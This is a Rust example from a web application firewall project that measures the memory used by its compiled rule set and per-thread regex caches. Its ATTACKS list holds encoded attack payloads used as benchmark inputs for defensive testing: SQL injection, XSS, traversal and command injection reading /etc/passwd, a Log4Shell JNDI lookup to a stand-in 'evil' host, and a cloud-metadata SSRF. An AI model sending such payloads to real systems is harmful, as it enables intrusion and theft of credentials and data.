#![allow(clippy::unwrap_used, clippy::expect_used)]
//! Where the compiled WAF rules' memory goes: resident anonymous memory (`/proc/self/
//! smaps_rollup`, mimalloc as in the edge) after building the rule set, after a second
//! generation (a reload that compiles again), and after inspecting requests on several
//! threads (each thread that searches a regex gets its own search cache), with the automata's
//! own heap per structure (`RuleSet::memory_parts`).
//!
//! ```sh
//! cargo build --release -p rampart-waf --example rule_memory
//! MIMALLOC_PURGE_DELAY=0 MIMALLOC_ALLOW_THP=0 target/release/examples/rule_memory  # THREADS=8 DETAIL=1 MAIN_THREAD=1
//! ```
use rampart_waf::{Policy, Request, RuleSet};

#[global_allocator]
static ALLOC: mimalloc::MiMalloc = mimalloc::MiMalloc;

#[path = "../../benches/benches/fixtures/typical_request.rs"]
mod typical_request;

/// Resident anonymous memory in KiB.
fn anon_kib() -> i64 {
    let text = std::fs::read_to_string("/proc/self/smaps_rollup").unwrap_or_default();
    text.lines()
        .find(|l| l.starts_with("Anonymous:"))
        .and_then(|l| l.split_whitespace().nth(1))
        .and_then(|v| v.parse().ok())
        .unwrap_or(0)
}

fn step(name: &str, last: &mut i64) {
    let now = anon_kib();
    println!("{name:<52} anonymous {now:>7} KiB ({:>+7})", now - *last);
    *last = now;
}

/// Query strings that reach every family's automata (the benign request reaches few).
const ATTACKS: &[&str] = &[
    "id=1%27%20OR%201%3D1--",
    "q=%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "file=..%2F..%2F..%2Fetc%2Fpasswd",
    "cmd=%3Bcat%20%2Fetc%2Fpasswd",
    "x=%24%7Bjndi%3Aldap%3A%2F%2Fevil%2Fa%7D",
    "p=php%3A%2F%2Ffilter%2Fconvert.base64-encode%2Fresource%3Dindex",
    "u=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2F",
    "a=1%20UNION%20SELECT%20username%2Cpassword%20FROM%20users",
    "t=%7B%7B7*7%7D%7D",
    "e=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E",
];

fn inspect_all(rs: &RuleSet, rounds: usize) {
    let h = typical_request::headers();
    let body = typical_request::json_body();
    let p = Policy::default();
    for _ in 0..rounds {
        std::hint::black_box(rs.inspect(&typical_request::request(&h, &body), &p));
        for q in ATTACKS {
            let req = Request {
                method: "GET",
                path: "/search",
                query: q,
                version: "HTTP/1.1",
                headers: &h,
                body: b"",
                body_truncated: false,
            };
            std::hint::black_box(rs.inspect(&req, &p));
        }
    }
}

fn main() {
    let threads: usize = std::env::var("THREADS")
        .ok()
        .and_then(|v| v.parse().ok())
        .unwrap_or(8);
    let detail = std::env::var_os("DETAIL").is_some();
    let mut last = anon_kib();
    step("start", &mut last);
    let t = std::time::Instant::now();
    // As the edge compiles (proxy/src/runtime.rs `compile_waf_rules`): on a thread of its own,
    // which ends before serving starts; MAIN_THREAD=1 compiles on this thread instead.
    let on_main = std::env::var_os("MAIN_THREAD").is_some();
    let rs = if on_main {
        RuleSet::builtin().unwrap()
    } else {
        std::thread::scope(|s| s.spawn(|| RuleSet::builtin().unwrap()).join().unwrap())
    };
    let compile = t.elapsed();
    let on = if on_main {
        "this thread"
    } else {
        "a thread of its own"
    };
    step(&format!("RuleSet::builtin() on {on}"), &mut last);
    println!("  compiled in {compile:.2?}");
    let parts = rs.memory_parts(detail);
    // Detail lines are indented; search caches are per thread, not part of the rule set.
    let total: usize = parts
        .iter()
        .filter(|p| !p.what.starts_with(' ') && !p.what.contains("caches"))
        .map(|p| p.bytes)
        .sum();
    for p in &parts {
        println!(
            "  {:<62} {:>4} x  {:>7} KiB",
            p.what,
            p.count,
            p.bytes / 1024
        );
    }
    println!(
        "  {:<62}       {:>7} KiB",
        "rule set total (memory_usage)",
        total / 1024
    );
    let second = RuleSet::builtin().unwrap();
    step("a second generation (RuleSet::builtin again)", &mut last);
    drop(second);
    step("second generation dropped", &mut last);
    inspect_all(&rs, 3);
    step("inspected on the main thread", &mut last);
    std::thread::scope(|s| {
        for _ in 0..threads {
            s.spawn(|| inspect_all(&rs, 3));
        }
    });
    step(
        &format!("inspected on {threads} more threads (ended)"),
        &mut last,
    );
    let finders: usize = rs
        .memory_parts(false)
        .iter()
        .filter(|p| p.what.starts_with("fragment"))
        .map(|p| p.bytes)
        .sum();
    println!("  fragment finders now {} KiB", finders / 1024);
}
